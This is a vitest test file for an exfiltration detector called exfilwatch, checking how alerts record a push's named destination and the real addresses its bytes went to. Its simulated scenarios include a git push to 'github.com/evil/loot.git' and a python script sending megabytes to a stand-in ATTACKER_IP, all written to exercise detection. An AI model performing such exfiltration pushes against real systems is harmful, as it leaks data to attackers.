/**
 * Where an alert's destination name came from (`push.namedBy`) and where the bytes went
 * (`push.addresses`): a name a process chose (its command line, or an earlier push's) is not where its
 * bytes must have gone, so a responder is told which names exfilwatch found itself (DNS of the configured
 * hosts) and every address, and a push by egress named by a command line is summarised by its address.
 */
import { describe, expect, it } from 'vitest';
import { Alert as AlertProto } from '../../../src/generated/exfilwatch/v1/alert.js';
import { MiB, run, runResolved, Scenario, TEST_DNS } from './builder.js';

const GITHUB_IP = TEST_DNS['github.com']![0]!;
const ATTACKER_IP = '203.0.113.66';

describe('push.namedBy and push.addresses', () => {
  it('a git push names its host by argv, and lists the address it sent to', () => {
    const s = new Scenario();
    const c = s.container();
    const git = s.exec(c, '/usr/bin/git', 'push https://github.com/evil/loot.git main', { parent: s.init(c) });
    s.connect(git, ATTACKER_IP, 443).send(git, ATTACKER_IP, 443, 2 * MiB);
    const [a] = run(s.events).alerts;
    expect(a?.push).toMatchObject({ destination: 'github.com', namedBy: 'argv', addresses: [`${ATTACKER_IP}:443`] });
    // The tool's own target stays the summary's destination; the address is in the response steps.
    expect(a?.summary).toContain('git push to github.com (');
    expect(a?.response.join('\n')).toContain(`to github.com (${ATTACKER_IP}:443) around`);
  });

  it('a push by egress named by its own command line is summarised by the address its bytes went to', () => {
    const s = new Scenario();
    const c = s.container();
    const up = s.exec(c, '/opt/up', '--note https://github.com/acme/app --src /srv', { parent: s.init(c) });
    s.connect(up, ATTACKER_IP, 443).send(up, ATTACKER_IP, 443, 2 * MiB);
    const [a] = run(s.events).alerts;
    expect(a?.push).toMatchObject({ destination: 'github.com', namedBy: 'argv', addresses: [`${ATTACKER_IP}:443`] });
    expect(a?.summary).toContain(`sent by up to ${ATTACKER_IP}:443 (named github.com by its command line, not by DNS)`);
  });

  it("a push by egress to an address an earlier push's command line named says so", () => {
    const s = new Scenario();
    const c = s.container();
    // The git push connects to the attacker's address (its /etc/hosts says github.com is there): a hint for
    // the node, which names another container's upload there.
    const git = s.exec(c, '/usr/bin/git', 'push https://github.com/acme/app.git', { parent: s.init(c) });
    s.connect(git, ATTACKER_IP, 443).send(git, ATTACKER_IP, 443, 10_000);
    s.wait(60_000);
    const other = s.container();
    const py = s.exec(other, '/usr/bin/python3', '/tmp/x.py', { parent: s.init(other) });
    s.connect(py, ATTACKER_IP, 443).send(py, ATTACKER_IP, 443, 3 * MiB);
    const alerts = run(s.events).alerts;
    const egress = alerts.find((x) => x.push.tool === 'python');
    expect(egress?.push).toMatchObject({
      destination: 'github.com',
      namedBy: 'hint',
      addresses: [`${ATTACKER_IP}:443`],
    });
    expect(egress?.summary).toContain(
      `to ${ATTACKER_IP}:443 (named github.com by an earlier push's command line, not by DNS)`,
    );
  });

  it('a push by egress to an address DNS gave for a configured host is named by dns, and summarised by name', async () => {
    const s = new Scenario();
    const c = s.container();
    const py = s.exec(c, '/usr/bin/python3', '/tmp/x.py', { parent: s.init(c) });
    s.connect(py, GITHUB_IP, 443).send(py, GITHUB_IP, 443, 3 * MiB);
    const [a] = (await runResolved(s.events)).alerts;
    expect(a?.push).toMatchObject({ destination: 'github.com', namedBy: 'dns', addresses: [`${GITHUB_IP}:443`] });
    expect(a?.summary).toContain('sent by python to github.com from');
  });

  it('an address with no name: namedBy null, the address is the destination', () => {
    const s = new Scenario();
    const c = s.container();
    const git = s.exec(c, '/usr/bin/git', 'push origin main', { parent: s.init(c) });
    s.connect(git, ATTACKER_IP, 22).send(git, ATTACKER_IP, 22, 2 * MiB);
    const [a] = run(s.events).alerts;
    expect(a?.push).toMatchObject({
      destination: `${ATTACKER_IP}:22`,
      namedBy: null,
      addresses: [`${ATTACKER_IP}:22`],
    });
  });

  it('both fields read into the generated exfilwatch.v1.Alert', () => {
    const s = new Scenario();
    const c = s.container();
    const up = s.exec(c, '/opt/up', '--note https://github.com/acme/app', { parent: s.init(c) });
    s.connect(up, ATTACKER_IP, 443).send(up, ATTACKER_IP, 443, 2 * MiB);
    const [a] = run(s.events).alerts;
    const back = AlertProto.decode(AlertProto.encode(AlertProto.fromJSON(JSON.parse(JSON.stringify(a)))).finish());
    expect(back.push?.namedBy).toBe('argv');
    expect(back.push?.addresses).toEqual([`${ATTACKER_IP}:443`]);
  });
});
